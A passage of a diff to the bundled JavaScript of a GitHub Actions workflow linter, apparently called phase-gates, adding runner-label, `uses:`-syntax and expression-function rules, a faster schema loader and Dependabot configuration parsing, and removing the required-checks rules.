+    help: "Expressions are typed as actionlint types them (`string`, `number`, `bool`, `null`, objects with known properties, arrays). GitHub compares an object with a string without error, and `==` is then always false (`!=` always true); `startsWith(github.event, 'x')` is always false; `github.repository.owner` is empty (`github.repository` is a string); `${{ github.event }}` in `run:` prints `Object`; `runs-on:` given an object fails the job; a local reusable workflow refuses a `with:` value that does not fit the `type:` of its `on.workflow_call` input (a number input given `three`). Untyped values (`fromJSON()` of a non-literal, `github.event.*`, step outputs) are `any`, which is never reported. Use `toJSON()` to print an object, or the property you meant."
+}, 'type'));
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/function-not-allowed.js
+/** PG107 function-not-allowed: a function that exists, used at a key where GitHub does not provide it. */
+
+/* harmony default export */ const function_not_allowed = (parserMessageRule({
+    id: 'PG107',
+    name: 'function-not-allowed',
+    level: 'error',
+    description: '`hashFiles()` outside the keys of a step, or `success()`, `failure()`, `always()`, `cancelled()` outside `if:`.',
+    help: "Some functions are available only at some keys: `hashFiles()` in a step's `run`, `with`, `env`, `name`, `if`, `working-directory`, `continue-on-error` and `timeout-minutes`; the status functions `success()`, `failure()`, `always()` and `cancelled()` only in the `if:` of a job or step. Elsewhere GitHub refuses the workflow (\"Unrecognized function\"). Move the call to a step, or compute the value in a step and pass it through `outputs`."
+}, 'function-not-allowed', (m) => m.replace(/^Unrecognized function: '(.*)'$/, (_all, name) => {
+    const keys = SPECIAL_FUNCTIONS.get(name.toLowerCase()) ?? [];
+    return `calling function "${name}" is not allowed here: "${name}" is only available in ${keys.map((k) => `"${k}"`).join(', ')}`;
+})));
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/function-arguments.js
+/** PG108 function-arguments: format() placeholders that do not match its arguments, broken JSON in fromJSON(). */
+
+/* harmony default export */ const function_arguments = (typeProblemRule({
+    id: 'PG108',
+    name: 'function-arguments',
+    level: 'error',
+    description: "`format()` whose placeholders `{0}`, `{1}`… do not match its arguments, and `fromJSON('…')` of a literal that is not JSON.",
+    help: "`format('{0}-{1}', a)` fails the run (a placeholder without an argument); an argument no placeholder uses is a forgotten `{n}`. `fromJSON()` of a literal string that is not valid JSON fails when it is evaluated. Both are checked as actionlint checks them; the number of arguments of every function is checked by PG102, their types by PG106."
+}, 'call'));
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/tokens.js
+/** Small readers of GitHub's token tree shared by the syntax rules (runner labels, conditions, filters). */
+
+/** The value of `key` in a mapping token. */
+function child(t, key) {
+    if (!t || !(0,dist/* isMapping */.pi)(t))
+        return undefined;
+    for (const pair of t)
+        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
+            return pair.value;
+    return undefined;
+}
+/** A string token as a positioned scalar. */
+function stringScalar(t) {
+    if (!t || !(0,dist/* isString */.Kg)(t) || !t.range)
+        return undefined;
+    return { value: t.value, at: { line: t.range.start.line, column: t.range.start.column } };
+}
+const linesOf = new WeakMap();
+/** Line `n` (1-based) of a file, the file split once however many rules ask. */
+function tokens_lineOf(file, n) {
+    let lines = linesOf.get(file);
+    if (!lines) {
+        lines = file.text.split('\n');
+        linesOf.set(file, lines);
+    }
+    return lines[n - 1] ?? '';
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/runner-labels.js
+/**
+ * Runner labels (PG140): GitHub-hosted labels as of December 2026 (GitHub's docs "GitHub-hosted
+ * runners" and actionlint's rule_runner_label.go at 011a6d1), the preset labels of self-hosted
+ * runners, and the labels GitHub retired.
+ */
+const GITHUB_HOSTED = [
+    'ubuntu-latest',
+    'ubuntu-slim',
+    'ubuntu-26.04',
+    'ubuntu-24.04',
+    'ubuntu-22.04',
+    'ubuntu-26.04-arm',
+    'ubuntu-24.04-arm',
+    'ubuntu-22.04-arm',
+    'ubuntu-latest-4-cores',
+    'ubuntu-latest-8-cores',
+    'ubuntu-latest-16-cores',
+    'windows-latest',
+    'windows-2025',
+    'windows-2025-vs2026',
+    'windows-2022',
+    'windows-11-arm',
+    'windows-latest-8-cores',
+    'macos-latest',
+    'macos-latest-large',
+    'macos-latest-xlarge',
+    'macos-26',
+    'macos-26-intel',
+    'macos-26-large',
+    'macos-26-xlarge',
+    'macos-15',
+    'macos-15-intel',
+    'macos-15-large',
+    'macos-15-xlarge',
+    'macos-14',
+    'macos-14-large',
+    'macos-14-xlarge'
+];
+/** Labels every self-hosted runner has (https://docs.github.com/en/actions/how-tos/manage-runners/self-hosted-runners/use-in-a-workflow). */
+const SELF_HOSTED_PRESETS = ['self-hosted', 'linux', 'macos', 'windows', 'x64', 'arm', 'arm64'];
+/** GitHub-hosted labels GitHub retired (a job on one never starts), with a current replacement. */
+const RETIRED = {
+    'ubuntu-16.04': 'ubuntu-24.04',
+    'ubuntu-18.04': 'ubuntu-24.04',
+    'ubuntu-20.04': 'ubuntu-24.04',
+    'macos-10.15': 'macos-15',
+    'macos-11': 'macos-15',
+    'macos-12': 'macos-15',
+    'macos-13': 'macos-15-intel',
+    'macos-13-large': 'macos-15-large',
+    'macos-13-xlarge': 'macos-15-xlarge',
+    'windows-2016': 'windows-2025',
+    'windows-2019': 'windows-2025'
+};
+/** A label glob of the config (`linux-arm64-*`) as a regular expression; case-insensitive. */
+function labelPattern(glob) {
+    return new RegExp(`^${glob.replace(/[.+^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '.*').replace(/\?/g, '.')}$`, 'i');
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/runner-label.js
+/** PG140 runner-label: `runs-on:` labels that no GitHub-hosted runner, preset or configured self-hosted label matches. */
+
+
+
+
+/** The literal values `${{ matrix.<name> }}` takes: its row and `include:` entries. */
+function matrixValues(job, name) {
+    const matrix = child(job.strategy, 'matrix');
+    const out = [];
+    const row = child(matrix, name);
+    if (row && (0,dist/* isSequence */.wZ)(row))
+        for (const v of row)
+            if ((0,dist/* isLiteral */.c$)(v) && (0,dist/* isString */.Kg)(v))
+                out.push(stringScalar(v));
+    const include = child(matrix, 'include');
+    if (include && (0,dist/* isSequence */.wZ)(include))
+        for (const combi of include) {
+            const v = child(combi, name);
+            if (v && (0,dist/* isString */.Kg)(v))
+                out.push(stringScalar(v));
+        }
+    return out.filter((s) => s && !s.value.includes('${{'));
+}
+/** The labels of `runs-on:` to check: literals, and matrix values for `${{ matrix.x }}`. */
+function labelsOf(job) {
+    let token = job.runsOn;
+    const group = !!child(token, 'group');
+    if (token && (0,dist/* isMapping */.pi)(token))
+        token = child(token, 'labels');
+    const items = token && (0,dist/* isSequence */.wZ)(token) ? [...token] : token ? [token] : [];
+    const labels = [];
+    for (const item of items) {
+        const s = stringScalar(item);
+        if (s) {
+            if (!s.value.includes('${{'))
+                labels.push(s);
+        }
+        else if ((0,dist/* isBasicExpression */.hR)(item)) {
+            const m = /^\s*matrix\.([\w-]+)\s*$/.exec(item.expression);
+            if (m)
+                labels.push(...matrixValues(job, m[1]));
+        }
+    }
+    return { labels, group };
+}
+/** The operating system a GitHub-hosted or preset label selects, if any. */
+function osOf(lower) {
+    if (!GITHUB_HOSTED.includes(lower) && !SELF_HOSTED_PRESETS.includes(lower))
+        return undefined;
+    return /^(ubuntu|linux)(-|$)/.test(lower) ? 'Linux' : /^macos(-|$)/.test(lower) ? 'macOS' : /^windows(-|$)/.test(lower) ? 'Windows' : undefined;
+}
+/** The labels written in `runs-on:` itself (not from a matrix): a runner must have all of them. */
+function literalLabels(job) {
+    let token = job.runsOn;
+    if (token && (0,dist/* isMapping */.pi)(token))
+        token = child(token, 'labels');
+    return token && (0,dist/* isSequence */.wZ)(token) ? [...token].map(stringScalar).filter((s) => !!s && !s.value.includes('${{')) : [];
+}
+const runner_label_rule = {
+    id: 'PG140',
+    name: 'runner-label',
+    level: 'error',
+    description: '`runs-on:` labels of two operating systems, or labels that are neither a GitHub-hosted runner (`ubuntu-24.04`, `macos-15`, …), a preset self-hosted label, nor a label of `runners.self-hosted` in `.github/phase-gates.yml`; labels of retired runners.',
+    help: "A job whose labels no runner has waits in the queue (24 hours for self-hosted runners) and then fails; a misspelt label (`ubuntu-lastest`) or a retired image (`ubuntu-20.04`, `macos-13`, `windows-2019`) is the usual cause. GitHub-hosted labels are checked against GitHub's current list; `${{ matrix.os }}` is checked for each value of the matrix. Labels of your own self-hosted or larger runners go in `.github/phase-gates.yml`: `runners: { self-hosted: [gpu, linux-arm64-*] }`. Without that list, the other labels of a `[self-hosted, …]` job and those of a runner `group:` are not checked.",
+    create(context) {
+        const configured = (context.settings.selfHostedRunners ?? []).map(labelPattern);
+        const known = [...GITHUB_HOSTED, ...SELF_HOSTED_PRESETS, ...(context.settings.selfHostedRunners ?? []).filter((l) => !/[*?]/.test(l))];
+        return {
+            jobPre(job, workflow) {
+                if (job.uses || !job.runsOn)
+                    return;
+                const { labels, group } = labelsOf(job);
+                const selfHosted = labels.some((l) => l.value.toLowerCase() === 'self-hosted');
+                const seen = new Set();
+                for (const label of labels) {
+                    const lower = label.value.toLowerCase();
+                    if (seen.has(`${lower}@${label.at.line}:${label.at.column}`))
+                        continue;
+                    seen.add(`${lower}@${label.at.line}:${label.at.column}`);
+                    if (GITHUB_HOSTED.includes(lower) || SELF_HOSTED_PRESETS.includes(lower) || configured.some((p) => p.test(label.value)))
+                        continue;
+                    const replacement = RETIRED[lower];
+                    if (replacement) {
+                        context.report(workflow.file, label, `runner "${label.value}" was retired by GitHub: a job on it never starts; use "${replacement}"`);
+                        continue;
+                    }
+                    // Labels of one's own runners are unknown here unless the config lists them.
+                    if ((selfHosted || group) && configured.length === 0)
+                        continue;
+                    const hint = suggestName(label.value, known);
+                    const list = hint ? '' : `; GitHub-hosted labels are ${GITHUB_HOSTED.filter((l) => !/-(large|xlarge|cores)$/.test(l)).join(', ')}`;
+                    context.report(workflow.file, label, `label "${label.value}" is unknown${hint}${list}; for a self-hosted or larger runner, add it to runners.self-hosted in .github/phase-gates.yml`);
+                }
+                // Labels of two operating systems: no runner has both, so the job never starts.
+                let first;
+                for (const label of literalLabels(job)) {
+                    const os = osOf(label.value.toLowerCase());
+                    if (!os)
+                        continue;
+                    if (!first)
+                        first = { label, os };
+                    else if (os !== first.os) {
+                        context.report(workflow.file, label, `label "${label.value}" (${os}) conflicts with label "${first.label.value}" (${first.os}) at line ${first.label.at.line}: a runner must have every label of runs-on:, so the job never starts; to run on each, use a matrix`);
+                    }
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const runner_label = (runner_label_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/uses-syntax.js
+const ACTION_FORMATS = '"{owner}/{repo}@{ref}" or "{owner}/{repo}/{path}@{ref}"';
+const WORKFLOW_FORMATS = '"{owner}/{repo}/.github/workflows/{file}.yml@{ref}" or "./.github/workflows/{file}.yml"';
+/** Why a step's `uses:` is malformed, or undefined. */
+function actionUsesProblem(value) {
+    // `./path` and GitHub's self-repository `$/path` are read at the workflow's own commit: no ref.
+    if (value.startsWith('./') || value.startsWith('$/') || value.startsWith('docker://'))
+        return undefined;
+    const at = value.indexOf('@');
+    if (at < 0)
+        return `action "${value}" has no ref: GitHub refuses the workflow; write ${ACTION_FORMATS}, e.g. "${value}@<commit sha>"`;
+    const name = value.slice(0, at);
+    const [owner = '', repo = ''] = name.split('/');
+    const ref = value.slice(at + 1);
+    if (!owner || !repo)
+        return `action "${value}" is not ${ACTION_FORMATS}${!name.includes('/') ? ' (no "/" between owner and repository)' : !repo ? ' (the repository is missing)' : ''}`;
+    if (!ref || ref.includes('@'))
+        return `action "${value}" has ${ref ? 'more than one "@"' : 'an empty ref'}; write ${ACTION_FORMATS}`;
+    return undefined;
+}
+/** Why a job's `uses:` (a reusable workflow) is malformed, or undefined. */
+function workflowUsesProblem(value) {
+    if (value.startsWith('./') || value.startsWith('$/')) {
+        if (value.includes('@'))
+            return `local reusable workflow "${value}" must not have a ref: it is read at the commit of the caller; remove "${value.slice(value.indexOf('@'))}"`;
+        if (!/^[.$]\/\.github\/workflows\/[^/]+\.ya?ml$/.test(value))
+            return `reusable workflow "${value}" is not a .yml or .yaml file directly in .github/workflows/; write ${WORKFLOW_FORMATS}`;
+        return undefined;
+    }
+    const at = value.indexOf('@');
+    const parts = (at < 0 ? value : value.slice(0, at)).split('/');
+    const ref = at < 0 ? '' : value.slice(at + 1);
+    if (parts.length < 5 || parts.some((p) => !p) || parts[2] !== '.github' || parts[3] !== 'workflows' || !/\.ya?ml$/.test(parts[parts.length - 1]) || !ref) {
+        return `reusable workflow "${value}" is not ${WORKFLOW_FORMATS}${at < 0 || !ref ? ' (the ref is missing)' : ''}`;
     }
     return undefined;
 }
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-not-required.js
-
-
-const required_check_not_required_rule = {
-    id: 'PG400',
-    name: 'required-check-not-required',
+const uses_syntax_rule = {
+    id: 'PG141',
+    name: 'uses-syntax',
     level: 'error',
-    description: 'A status check of the `required-checks` input that neither branch protection nor a ruleset of the base branch requires.',
-    help: 'A gate only protects the branch when its check is required: otherwise a pull request merges while `workflows_validation` or `gates_enforcer` fails or never ran. Add the check to the required status checks of the base branch (branch protection, or a ruleset with a "Require status checks to pass" rule), or change the `required-checks` input. Read with the `token` input; branch protection needs a token with administration read access (rulesets need only metadata), so with `GITHUB_TOKEN` alone only rulesets are known and this rule stays silent.',
+    description: 'A `uses:` GitHub cannot resolve: an action without `@ref` (`uses: actions/checkout`), an empty owner, repository or ref, or a reusable workflow that is not `owner/repo/.github/workflows/x.yml@ref` or `./.github/workflows/x.yml`.',
+    help: 'A step runs `{owner}/{repo}@{ref}`, `{owner}/{repo}/{path}@{ref}`, `./path/to/action` or `docker://image`; a job calls `{owner}/{repo}/.github/workflows/{file}.yml@{ref}` or `./.github/workflows/{file}.yml` (a local one has no ref, and reusable workflows live directly in .github/workflows). GitHub rejects any other form when the workflow is loaded, so no job of the workflow runs. Give the ref, preferably a full commit SHA.',
     create(context) {
-        let state;
+        const check = (file, uses, problem) => {
+            const value = uses?.value.trim();
+            if (!uses || !value || value.includes('${{'))
+                return;
+            const message = problem(value);
+            if (message)
+                context.report(file, uses, message);
+        };
         return {
-            async prepare() {
-                if (context.requiredChecks)
-                    state = await readRequired(context.requiredChecks);
+            jobPre(job, workflow) {
+                check(workflow.file, job.uses, workflowUsesProblem);
             },
-            finish() {
-                const source = context.requiredChecks;
-                if (!source || !state || state.partial)
-                    return;
-                const required = new Set(state.required);
-                const produced = producedChecks(context.project);
-                const first = firstWorkflow(context.project);
-                for (const name of source.expected) {
-                    if (required.has(name))
-                        continue;
-                    const producer = producersOf(name, produced)[0];
-                    const where = producer ? { file: producer.workflow.file, node: producer.job.name ?? producer.job.id } : first && { file: first.workflow.file, node: first.node };
-                    if (!where)
-                        continue;
-                    context.report(where.file, where.node, `check "${name}" is not required on branch "${state.branch}" (required: ${nameList(state.required)})`);
-                }
+            step(step, _owner, file) {
+                check(file.file, step.uses, actionUsesProblem);
             }
         };
     }
 };
-/* harmony default export */ const required_check_not_required = (required_check_not_required_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-not-produced.js
-
-const required_check_not_produced_rule = {
-    id: 'PG401',
-    name: 'required-check-not-produced',
-    level: 'warning',
-    description: 'A status check the base branch requires that no job of the checked workflows produces under that name.',
-    help: 'GitHub names a check after the job: its `name:` (matrix values expanded), else its id; a matrix job without a name gives `id (value, value)` per combination, and a job calling a reusable workflow gives `caller / job`. A required check that nothing reports stays "Expected — Waiting for status to be reported" and blocks every pull request. Rename the job or fix the required check. A check that a GitHub App reports (not a workflow) is also reported here: disable the rule for it with `# phase-gates-disable PG401` or in the config.',
-    create(context) {
-        let state;
-        return {
-            async prepare() {
-                if (context.requiredChecks)
-                    state = await readRequired(context.requiredChecks);
-            },
-            finish() {
-                if (!state)
-                    return;
-                const first = firstWorkflow(context.project);
-                if (!first)
-                    return;
-                const produced = producedChecks(context.project);
-                for (const name of state.required) {
-                    if (producersOf(name, produced).length)
-                        continue;
-                    context.report(first.workflow.file, first.node, `required check "${name}" of branch "${state.branch}" is produced by no job of the checked workflows`);
-                }
-            }
-        };
-    }
-};
-/* harmony default export */ const required_check_not_produced = (required_check_not_produced_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-skippable.js
-
-const required_check_skippable_rule = {
-    id: 'PG402',
-    name: 'required-check-skippable',
-    level: 'warning',
-    description: 'A required status check produced only by workflows whose pull request trigger has `paths`/`branches` filters, or only by jobs with an `if:` that can skip them.',
-    help: 'A workflow that a `paths`, `paths-ignore`, `branches` or `branches-ignore` filter does not start never reports its checks, so a pull request that touches other files waits forever for a required check (error). A job that its `if:` skips reports success without running, so the required check passes unverified (warning). Produce the required check from a job that always runs (drop the filter and decide inside the job, or add a job with the same name that runs when the filter does not match).',
-    create(context) {
-        let state;
-        return {
-            async prepare() {
-                if (context.requiredChecks)
-                    state = await readRequired(context.requiredChecks);
-            },
-            finish() {
-                if (!state)
-                    return;
-                const produced = producedChecks(context.project);
-                for (const name of state.required) {
-                    const producers = producersOf(name, produced);
-                    if (!producers.length || producers.some((p) => !p.skip))
-                        continue;
-                    const hard = producers.find((p) => p.skip.hard);
-                    const p = hard ?? producers[0];
-                    const skip = p.skip;
-                    const why = hard ? 'a pull request it does not start waits for it forever' : 'a skipped job reports success without running';
-                    context.report(p.workflow.file, skip.node, `required check "${name}" can be skipped by ${skip.reason}: ${why}`, hard ? 'error' : undefined);
-                }
-            }
-        };
-    }
-};
-/* harmony default export */ const required_check_skippable = (required_check_skippable_rule);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/index.js
-
-
-
-const required_checks_family = {
-    name: 'required-checks',
-    title: 'Required checks',
-    description: 'The status checks the base branch requires, against the jobs that produce them.',
-    rules: [
-        required_check_not_required,
-        required_check_not_produced,
-        required_check_skippable
-    ]
-};
-/* harmony default export */ const required_checks = (required_checks_family);
-
-;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/index.js
-
-
-
-
-
-
-
-/** The families, in the order docs/rules.md presents them. */
-const FAMILIES = [syntax, scripts, supply_chain, injection, permissions, deployment, required_checks];
-/** Every rule, in id order. */
-const RULES = FAMILIES.flatMap((f) => f.rules).sort((a, b) => a.id.localeCompare(b.id));
-const FAMILY_OF = new Map(FAMILIES.flatMap((f) => f.rules.map((r) => [r, f])));
-/** The family a rule belongs to. */
-function rules_familyOf(rule) {
-    const family = FAMILY_OF.get(rule);
-    if (!family)
-        throw new Error(`rule ${rule.id} is in no family`);
-    return family;
-}
-/** The rule with this id or kebab-case name. */
-function findRule(idOrName) {
-    const key = idOrName.trim();
-    return RULES.find((r) => r.id.toLowerCase() === key.toLowerCase() || r.name === key);
-}
-/** The docs anchor of a rule: its heading in docs/rules.md. */
-function docsAnchor(rule) {
-    return `${rule.id.toLowerCase()}-${rule.name}`;
-}
+/* harmony default export */ const uses_syntax = (uses_syntax_rule);
 
 // EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-parser.js + 1 modules
 var action_parser = __webpack_require__(4240);
@@ -2712,10 +2926,78 @@ var action_parser = __webpack_require__(4240);
 var convert = __webpack_require__(9443);
 // EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/templates/template-context.js + 1 modules
 var template_context = __webpack_require__(5071);
+// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/template-schema.js + 10 modules
+var template_schema = __webpack_require__(5041);
 // EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/workflows/workflow-schema.js + 1 modules
 var workflow_schema = __webpack_require__(2363);
 // EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/actions/action-schema.js + 1 modules
 var action_schema = __webpack_require__(8590);
+;// CONCATENATED MODULE: ./.build/src/core/workflows/schema.js
+/**
+ * GitHub's workflow and action.yml schemas, loaded fast. `@actions/workflow-parser` reads its own
+ * JSON schema on first use through its template reader, validating it against the schema of
+ * schemas: a fixed file validated on every run, about a fifth of the action's start-up. Here the
+ * same parse events become the same tokens directly, and `new TemplateSchema` builds the same
+ * definitions from them (test/validate/schema.test.ts compares both with the library's load).
+ */
+
+
+
+
+/** The next value of `reader` as a token tree; a schema file is finite, and each turn reads one event or throws. */
+function readValue(reader) {
+    const literal = reader.allowLiteral();
+    if (literal)
+        return literal;
+    const sequence = reader.allowSequenceStart();
+    if (sequence) {
+        while (!reader.allowSequenceEnd())
+            sequence.add(readValue(reader));
+        return sequence;
+    }
+    const mapping = reader.allowMappingStart();
+    if (mapping) {
+        while (!reader.allowMappingEnd()) {
+            const key = reader.allowLiteral();
+            if (!key || !(0,dist/* isString */.Kg)(key))
+                throw new Error('schema: a mapping key that is not a string');
+            mapping.add(key, readValue(reader));
+        }
+        return mapping;
+    }
+    throw new Error('schema: unexpected end of the schema document');
+}
+/** `TemplateSchema.load` without validating a fixed file against the schema of schemas. */
+function loadSchemaFast(reader) {
+    reader.validateStart();
+    const root = readValue(reader);
+    reader.validateEnd();
+    if (!(0,dist/* isMapping */.pi)(root))
+        throw new Error('schema: the document is not a mapping');
+    return new template_schema/* TemplateSchema */._(root);
+}
+/** Runs `get` (the library's cached schema getter) with the fast loader in place of `TemplateSchema.load`. */
+function fast(get) {
+    const original = template_schema/* TemplateSchema */._.load;
+    template_schema/* TemplateSchema */._.load = loadSchemaFast;
+    try {
+        return get();
+    }
+    finally {
+        template_schema/* TemplateSchema */._.load = original;
+    }
+}
+let workflow;
+let action;
+/** The workflow schema (the library's own, loaded once and cached by it). */
+function workflowSchema() {
+    return (workflow ??= fast(workflow_schema/* getWorkflowSchema */.L));
+}
+/** The action.yml schema (the library's own, loaded once and cached by it). */
+function actionSchema() {
+    return (action ??= fast(action_schema/* getActionSchema */.E));
+}
+
 // EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
 var yaml_dist = __webpack_require__(8815);
 // EXTERNAL MODULE: external "node:fs/promises"
@@ -2925,8 +3207,11 @@ async function oversizeProblem(abs, size, bounds) {
 
 /** Most YAML nodes a file may expand to through aliases (a billion-laughs file expands to ~10⁹). */
 const MAX_EXPANDED_NODES = 200_000;
-/** Action metadata is named action.yml or action.yaml; everything else is taken for a workflow. */
+/** Action metadata is named action.yml or action.yaml, Dependabot's configuration dependabot.yml; everything else is taken for a workflow. */
 function kindOf(relPath) {
+    // `dependabot.yml`, or `<name>.dependabot.yml` (a Dependabot configuration kept under another name).
+    if (/(^|\/|\.)dependabot\.ya?ml$/.test(relPath))
+        return 'dependabot';
     return /(^|\/)action\.ya?ml$/.test(relPath) ? 'action' : 'workflow';
 }
 /** The bounds of a kind's text: GitHub's own size limit, nesting depth, nodes, aliases. */
@@ -3112,6 +3397,58 @@ function notThisKind(source) {
     return { message: `not ${what}: ${needs} at its top level (its keys: ${listed})`, line: 1, column: 1 };
 }
 
+;// CONCATENATED MODULE: ./.build/src/core/workflows/dependabot.js
+/**
+ * Dependabot's configuration (`.github/dependabot.yml`), read with the `yaml` package and a
+ * LineCounter (as config.ts reads ours) into a positioned model for the dependabot rules. Only the
+ * keys those rules read are modelled; a file that is no YAML mapping is one problem, not a model.
+ */
+
+/** Most `updates:` entries read (GitHub allows a few hundred; this is a bound, not a limit). */
+const MAX_DEPENDABOT_UPDATES = 10_000;
+function buildDependabot(source) {
+    const lineCounter = new yaml_dist/* LineCounter */.HN();
+    // Aliases are never expanded: only nodes are read.
+    const doc = (0,yaml_dist/* parseDocument */.Tp)(source.text, { lineCounter, uniqueKeys: true });
+    const posOf = (node) => {
+        const p = node?.range ? lineCounter.linePos(node.range[0]) : { line: 1, col: 1 };
+        return { line: p.line, column: p.col };
+    };
+    if (doc.errors.length) {
+        const e = doc.errors[0];
+        return { problems: [{ stage: 'read', message: `invalid YAML: ${e.message.split('\n')[0]}`, at: e.linePos ? { line: e.linePos[0].line, column: e.linePos[0].col } : { line: 1, column: 1 } }] };
+    }
+    const root = doc.contents;
+    if (!(0,yaml_dist/* isMap */.jh)(root))
+        return { problems: [{ stage: 'read', message: 'not a Dependabot configuration: its top level is not a mapping with version: and updates:', at: posOf(root) }] };
+    const get = (map, key) => {
+        if (!(0,yaml_dist/* isMap */.jh)(map))
+            return undefined;
+        const pair = map.items.find((p) => (0,yaml_dist/* isScalar */.jn)(p.key) && p.key.value === key);
+        return pair ? { key: pair.key, value: pair.value } : undefined;
+    };
+    const scalar = (node) => (node && (0,yaml_dist/* isScalar */.jn)(node) ? { value: String(node.value), at: posOf(node) } : undefined);
+    const updates = [];
+    const list = get(root, 'updates')?.value;
+    for (const item of (0,yaml_dist/* isSeq */.oP)(list) ? list.items.slice(0, MAX_DEPENDABOT_UPDATES) : []) {
+        if (!(0,yaml_dist/* isMap */.jh)(item))
+            continue;
+        const first = item.items[0]?.key;
+        const cooldown = get(item, 'cooldown');
+        const days = get(cooldown?.value, 'default-days');
+        const execution = get(item, 'insecure-external-code-execution');
+        updates.push({
+            at: posOf(first ?? item),
+            ecosystem: scalar(get(item, 'package-ecosystem')?.value),
+            directory: scalar(get(item, 'directory')?.value),
+            cooldownKey: cooldown && { value: 'cooldown', at: posOf(cooldown.key) },
+            cooldownDefaultDays: days && { value: 'default-days', at: posOf(days.key), days: (0,yaml_dist/* isScalar */.jn)(days.value) ? String(days.value.value) : '' },
+            insecureExternalCodeExecution: execution && { value: 'insecure-external-code-execution', at: posOf(execution.key), setting: (0,yaml_dist/* isScalar */.jn)(execution.value) ? String(execution.value.value) : '' }
+        });
+    }
+    return { model: { kind: 'dependabot', file: source, updates }, problems: [] };
+}
+
 ;// CONCATENATED MODULE: ./.build/src/core/workflows/parse.js
 /**
  * Parsing with GitHub's own `@actions/workflow-parser` (internal to workflows-validation): its
@@ -3172,9 +3509,13 @@ async function parseSource(source) {
     const bomb = boundsProblem(source) ?? aliasBomb(source.text);
     if (bomb)
         return { source, problems: [{ stage: 'read', message: bomb.message, at: { line: bomb.line, column: bomb.column } }] };
+    if (source.kind === 'dependabot') {
+        const { model, problems } = buildDependabot(source);
+        return { source, problems, dependabot: model };
+    }
     const file = { name: source.path, content: source.text };
     const errors = new BoundedErrors();
-    const context = new template_context/* TemplateContext */.m(errors, source.kind === 'action' ? (0,action_schema/* getActionSchema */.E)() : (0,workflow_schema/* getWorkflowSchema */.L)(), new dist/* NoOperationTraceWriter */.P0());
+    const context = new template_context/* TemplateContext */.m(errors, source.kind === 'action' ? actionSchema() : workflowSchema(), new dist/* NoOperationTraceWriter */.P0());
     let result;
     try {
         result = source.kind === 'action' ? (0,action_parser/* parseAction */.w)(file, context) : (0,dist/* parseWorkflow */.hM)(file, context);
@@ -3277,11 +3618,12 @@ function descriptionRanges(root) {
 
 
 
+
 /** The path a local `uses:` names, relative to the workspace; undefined for a remote one. */
 function localUsesPath(uses) {
-    if (!uses.startsWith('./'))
+    if (!isLocalUses(uses))
         return undefined;
-    return external_node_path_.posix.normalize(uses.replace(/\/+$/, ''));
+    return external_node_path_.posix.normalize(`./${uses.trim().slice(2)}`.replace(/\/+$/, ''));
 }
 /**
  * Longest message of a finding: a parser message may quote a value of any length (GitHub's own
@@ -3340,6 +3682,12 @@ class LocalFiles {
             return undefined;
         }
     }
+    exists(uses) {
+        const rel = localUsesPath(uses);
+        if (!rel)
+            return undefined;
+        return this.candidates(rel).some((c) => this.models.has(c) || (this.inside(c) !== undefined && (0,external_node_fs_.existsSync)(this.inside(c))));
+    }
     get(uses) {
         const rel = localUsesPath(uses);
         if (!rel)
@@ -3390,18 +3738,19 @@ function inlineDisables(text) {
 async function lint(files, options) {
     const local = new LocalFiles(options.workspace, files);
     await local.preload();
-    const project = { files, local: (uses) => local.get(uses) };
+    const project = { files, local: (uses) => local.get(uses), exists: (uses) => local.exists(uses) };
     const settings = options.settings ?? { allowActions: [], allowOwners: [] };
     const findings = [];
     const active = [];
     for (const rule of options.rules) {
         const setting = options.ruleSettings?.get(rule.id);
-        if (setting === 'off')
+        if (setting === 'off' || (rule.optIn && setting === undefined))
             continue;
         const context = {
             project,
             settings,
             requiredChecks: options.requiredChecks,
+            github: options.github,
             report(file, node, message, own) {
                 const level = setting ?? own ?? rule.level;
                 const text = message.length > MAX_MESSAGE_CHARS ? `${message.slice(0, MAX_MESSAGE_CHARS)}…` : message;
@@ -3443,14 +3792,38 @@ async function lint(files, options) {
                 hooks.actionPost?.(model);
         }
     }
+    const dependabot = await dependabotFiles(files, options.workspace);
+    for (const d of dependabot)
+        if (d.dependabot)
+            for (const { hooks } of active)
+                hooks.dependabot?.(d.dependabot);
     for (const { hooks } of active)
         await hooks.finish?.();
-    const disables = new Map(files.map((f) => [f.source.path, inlineDisables(f.source.text)]));
+    const disables = new Map([...files, ...dependabot].map((f) => [f.source.path, inlineDisables(f.source.text)]));
     const kept = findings.filter((f) => {
         const ids = disables.get(f.file)?.get(f.line);
         return !ids || !(ids.has('*') || ids.has(f.ruleId) || ids.has(f.ruleName));
     });
     return sortFindings(dedupe(kept));
+}
+/**
+ * Dependabot configurations: those among the files, else `.github/dependabot.yml` (or `.yaml`) of
+ * the workspace when there is one (read for its rules only; its reading problems are not reported).
+ */
+async function dependabotFiles(files, workspace) {
+    const given = files.filter((f) => f.dependabot);
+    if (given.length)
+        return given;
+    for (const name of ['.github/dependabot.yml', '.github/dependabot.yaml']) {
+        const abs = external_node_path_.join(workspace, name);
+        if (!(0,external_node_fs_.existsSync)(abs))
+            continue;
+        // A link out of the workspace is not the repository's configuration.
+        const root = (0,external_node_fs_.realpathSync)(workspace);
+        const inside = external_node_path_.relative(root, (0,external_node_fs_.realpathSync)(abs));
